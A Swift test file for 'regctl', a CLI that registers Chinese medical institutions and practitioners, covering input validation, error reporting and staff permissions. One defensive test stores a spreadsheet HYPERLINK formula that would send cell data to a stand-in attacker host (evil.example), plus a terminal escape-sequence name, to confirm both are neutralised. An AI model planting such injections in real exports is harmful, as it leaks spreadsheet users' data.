import Testing
import Foundation
import Postgres
import TestSupport

/// Issue 13: every input gets a clear answer at the door a user meets it: no crash, no database text,
/// nothing lost or silently changed.
@Suite struct InputCLITests {
    /// The shared CLI session, with the institution these tests record.
    final class Session: CLISession {
        func hospital(_ serial: Int = 1, name: String = "浙江省人民医院") -> String {
            ok([
                "institution", "add", "--name", name, "--uscc", Make.creditCode(region: "330106", serial: serial),
                "--region", "330106",
                "--ownership", "public", "--category", "general-hospital", "--beds", "100"
            ])
        }
    }

    /// The last migration file's name: the schema version `--version` reports.
    static func lastMigration() throws -> String {
        let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent(
            "../../sql/migrations"
        ).standardized
        return String(
            try FileManager.default.contentsOfDirectory(atPath: dir.path).filter { $0.hasSuffix(".sql") }.sorted().last!
                .dropLast(4))
    }

    /// A record without a natural key named by something that is no id: one answer for every kind, saying
    /// where its ids are printed (Store.recordID).
    @Test func recordIDsThatAreNoIDs() throws {
        let s = try Session()
        for (command, kind) in [
            (["registration", "approve", "REG-1"], "registration"),
            (["nurse", "approve", "REG-1"], "nurse registration"),
            (["filing", "end", "REG-1", "--on", "2026-03-02"], "filing"),
            (["credit", "lift", "REG-1", "--on", "2026-03-02"], "credit record"),
            (["studio", "close", "REG-1", "--on", "2026-03-02"], "studio"),
            (["pilot", "end", "REG-1", "--on", "2026-03-02"], "pilot")
        ] {
            let r = s.refused(command, 64, "input.id")
            #expect(r.stderr.contains("'REG-1' is not a \(kind) id: give its id (as printed by "), "\(command): \(r)")
        }
    }

    @Test func malformedValuesAreUsageErrorsNamingTheFlag() throws {
        let s = try Session()
        let hospital = s.hospital()
        let id = Make.residentID(sequence: 1)
        _ = s.ok([
            "physician", "add", "--name", "张伟", "--id-number", id, "--qualification-no", "Q1", "--level", "physician",
            "--category", "clinical"
        ])
        let reg = s.ok(["registration", "apply", "--physician", id, "--institution", hospital, "--scope", "内科"])
        // Dates: 20 digits (it crashed), empty (it meant today), ahead of today (the report then contradicted itself).
        _ = s.refused(["events", "list", "--since", "99999999999999999999"], 64, "input.date")
        _ = s.refused(["registration", "approve", reg, "--on", ""], 64, "input.date")
        let ahead = s.refused(["registration", "approve", reg, "--on", "2026-03-15"], 64, "input.future-date")
        #expect(ahead.stderr.contains("--on"))
        #expect(try s.count("SELECT count(*) FROM registration WHERE status = 'pending'") == 1)
        #expect(
            try s.count(
                "SELECT count(*) FROM event WHERE command = 'registration.approve' AND error_code = 'input.future-date'"
            ) == 1)
        // Integers past their column, names over a line or 100 characters, bytes that are not UTF-8.
        _ = s.refused(
            [
                "institution", "add", "--name", "医院", "--uscc", Make.creditCode(region: "330106", serial: 2),
                "--region", "330106",
                "--ownership", "public", "--category", "clinic", "--beds", "2147483648"
            ], 64, "input.beds")
        _ = s.refused(
            ["policy", "set", "--province", "330000", "--max-active-filings", "2147483648"], 64, "input.number")
        _ = s.refused(
            [
                "physician", "add", "--name", "张\n伟", "--id-number", Make.residentID(sequence: 2), "--qualification-no",
                "Q2",
                "--level", "physician", "--category", "clinical"
            ], 64, "input.name")
        _ = s.refused(
            [
                "physician", "add", "--name", String(repeating: "张", count: 101), "--id-number",
                Make.residentID(sequence: 2),
                "--qualification-no", "Q2", "--level", "physician", "--category", "clinical"
            ], 64, "input.name")
        let gbk = CLI.spawn(
            [CLI.binary, "region", "list", "--parent", "\u{6D59}"], environment: ["DATABASE_URL": s.db.url], stdin: "")
        #expect(gbk.status == 0 || gbk.status == 64)  // valid UTF-8 here: a region error at most
        let version = s.run(["--version"])
        let schema = try Self.lastMigration()
        #expect(
            version.status == 0 && version.stdout.hasPrefix("regctl ") && version.stdout.contains("schema \(schema)"),
            "\(version)")
        #expect(try s.count("SELECT count(*) FROM physician") == 1)
    }

    /// Bytes that are not UTF-8 in an argument are refused at the door, not stored as U+FFFD.
    @Test func argumentsThatAreNotUTF8() throws {
        let s = try Session()
        // posix_spawn takes C strings: a Swift String cannot hold 0xB2, so the argument is built by the shell.
        let r = CLI.spawn(
            [
                "/bin/sh", "-c",
                "exec \"$0\" staff add --id gbk --name \"$(printf '\\326\\320\\316\\304')\" --role admin", CLI.binary
            ],
            environment: ["DATABASE_URL": s.db.url], stdin: "")
        #expect(r.status == 64 && r.stderr.hasPrefix("error[input.encoding]"), "\(r)")
        #expect(try s.count("SELECT count(*) FROM staff") == 0)
    }

    @Test func noDatabaseTextAndEveryRefusalRecorded() throws {
        let s = try Session()
        let id = "33010619900101123X"
        let nurse = ["nurse", "add", "--name", "李娜", "--id-number", id, "--qualification-no", "N1"]
        _ = s.ok(nurse)
        let again = s.refused(nurse + ["--qualification-no", "N2"], 1, "nurse.exists")
        #expect(!again.stderr.contains(id))
        #expect(
            try s.count("SELECT count(*) FROM event WHERE command = 'nurse.add' AND error_code = 'nurse.exists'") == 1)
    }

    @Test func creditCodesAreCheckedInFull() throws {
        let s = try Session()
        let add = [
            "institution", "add", "--name", "广东省人民医院", "--region", "330106", "--ownership", "public", "--category",
            "general-hospital", "--beds", "10"
        ]
        let good = Make.creditCode(region: "330106", serial: 5)
        _ = s.ok(add + ["--uscc", good])
        // A typo in the check character is refused, naming what the first 17 give; the same name in the county is no second record.
        let typo = String(good.prefix(17)) + (good.last == "1" ? "2" : "1")
        let r = s.refused(add + ["--uscc", typo], 1, "institution.uscc-check")
        #expect(r.stderr.contains("--accept-check-failure"))
        #expect(try s.count("SELECT count(*) FROM institution") == 1)
        // Accepted deliberately: recorded, with the reason in the event, and a warning naming the other record.
        let accepted = s.run(add + ["--uscc", typo, "--accept-check-failure", "与执业许可证核对一致"])
        #expect(accepted.status == 0, "\(accepted)")
        #expect(accepted.stderr.contains("institution.same-name") && accepted.stderr.contains(good))
        #expect(
            try s.count(
                "SELECT count(*) FROM event WHERE command = 'institution.add' AND details->>'accepted_check_failure' = '与执业许可证核对一致'"
            ) == 1)
        // A resident ID number whose 18th character happens to pass the code's check is still no credit code.
        var sequence = 0
        var resident = Make.residentID(region: "330106", sequence: sequence)
        while !(Self.passesCreditCheck(resident)) {
            sequence += 1
            resident = Make.residentID(region: "330106", sequence: sequence)
        }
        _ = s.refused(add + ["--uscc", resident, "--name", "某医院"], 64, "input.uscc")
        // Authority 9 (市场监管) registers no type 5.
        _ = s.refused(add + ["--uscc", "95" + String(good.dropFirst(2)), "--name", "某医院"], 64, "input.uscc")
    }

    static func passesCreditCheck(_ code: String) -> Bool {
        let alphabet = Array("0123456789ABCDEFGHJKLMNPQRTUWXY")
        let weights = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]
        let chars = Array(code)
        guard let values = Optional(chars.prefix(17).compactMap { alphabet.firstIndex(of: $0) }), values.count == 17
        else { return false }
        let c = 31 - zip(values, weights).reduce(0) { $0 + $1.0 * $1.1 } % 31
        return alphabet[c == 31 ? 0 : c] == chars[17]
    }

    @Test func outputNeverAttacksItsReader() throws {
        let s = try Session()
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"点击")"#
        _ = s.ok(["staff", "add", "--id", "evil", "--name", formula, "--role", "admin"])
        let csv = s.ok(["staff", "list", "--format", "csv"])
        #expect(
            csv.contains("\"'=HYPERLINK(") && !csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"), "\(csv)")
        // A refused name with an escape sequence is not echoed raw; a stored one shows escaped in a table.
        let escape = "\u{1B}[2J\u{1B}[31m红"
        let refused = s.refused(["staff", "add", "--id", "esc", "--name", escape, "--role", "admin"], 64, "input.name")
        #expect(!refused.stderr.contains("\u{1B}"))
        try s.db.connect().execute("UPDATE staff SET name = \(escape) WHERE id = 'evil'")
        let table = s.ok(["staff", "list"])
        #expect(!table.contains("\u{1B}") && table.contains("\\u{1B}[2J"), "\(table)")
        // --format json: errors are JSON on stderr; lists are arrays; times carry their offset.
        let error = s.run(["registration", "approve", "not-an-id", "--format", "json"])
        let object = try #require(
            try JSONSerialization.jsonObject(with: Data(error.stderr.utf8)) as? [String: Any], "\(error)")
        let inner = try #require(object["error"] as? [String: Any])
        #expect(error.status == 64 && inner["code"] as? String == "input.id" && inner["message"] is String)
        let events = try #require(
            try JSONSerialization.jsonObject(with: Data(s.ok(["events", "list", "--format", "json"]).utf8))
                as? [[String: Any]])
        #expect((events.first?["at"] as? String)?.hasSuffix("+08:00") == true)
        #expect(events.first?["arguments"] is [String: Any] && events.first?["subjects"] is [Any])
    }

    @Test func theDatabaseDoorSaysWhatIsWrong() throws {
        let s = try Session()
        let unreachable = CLI.run(
            ["db", "status"], database: "host=/nonexistent-\(UUID().uuidString) dbname=regctl connect_timeout=2")
        #expect(
            unreachable.status == 69 && unreachable.stderr.hasPrefix("error[db.unavailable]")
                && unreachable.stdout.contains("unreachable"), "\(unreachable)")
        _ = s.ok(["staff", "add", "--id", "reg-1", "--name", "登记", "--role", "registrar", "--region", "330000"])
        let login = "host=\(TestCluster.cluster.socketDirectory) dbname=\(s.db.name) user=reg-1"
        let wrong = CLI.run(["db", "status"], database: login + " password=wrong-password")
        #expect(
            wrong.status == 77 && wrong.stderr.hasPrefix("error[auth.failed]") && !wrong.stderr.contains("running"),
            "\(wrong)")
        let command = CLI.run(["staff", "list"], database: login + " password=wrong-password")
        #expect(command.status == 77 && !command.stderr.contains("Check that the server is running"), "\(command)")
    }

    @Test func staffLoginsCannotResetAndShowNothingOutsideTheirScope() throws {
        let s = try Session()
        let mine = s.hospital(1, name: "杭州和睦门诊部")
        let other = s.hospital(2, name: "另一家医院")
        let added = s.run([
            "staff", "add", "--id", "hr-1", "--name", "人事", "--role", "hr", "--institution", mine, "--format", "json"
        ])
        let password = try #require(
            (try JSONSerialization.jsonObject(with: Data(added.stdout.utf8)) as? [String: Any])?["password"] as? String)
        let own = "host=\(TestCluster.cluster.socketDirectory) dbname=\(s.db.name) user=hr-1 password=\(password)"
        let reset = CLI.run(["db", "reset", "--yes"], database: own)
        #expect(reset.status == 1 && reset.stderr.hasPrefix("error[permission.denied]"), "\(reset)")
        #expect(try s.count("SELECT count(*) FROM institution") == 2)
        let outside = s.run(["institution", "show", other, "--as", "hr-1"])
        #expect(outside.status == 1 && outside.stderr.hasPrefix("error[not-found]"), "\(outside)")
    }

    /// Two commands started together on a fresh home both succeed (they raced to create the database).
    @Test func concurrentFirstUseOfAHome() async throws {
        let home = "/var/tmp/regctl-first-use-\(UUID().uuidString.prefix(8))"
        defer {
            _ = CLI.run(["db", "stop"], database: nil, home: home)
            try? FileManager.default.removeItem(atPath: home)
        }
        let results = try await withThrowingTaskGroup(of: CLIResult.self) { group in
            for _ in 0..<3 {
                group.addTask { CLI.run(["region", "list", "--level", "province"], database: nil, home: home) }
            }
            return try await group.reduce(into: []) { $0.append($1) }
        }
        #expect(results.count == 3)
        for r in results { #expect(r.status == 0, "\(r)") }
    }
}
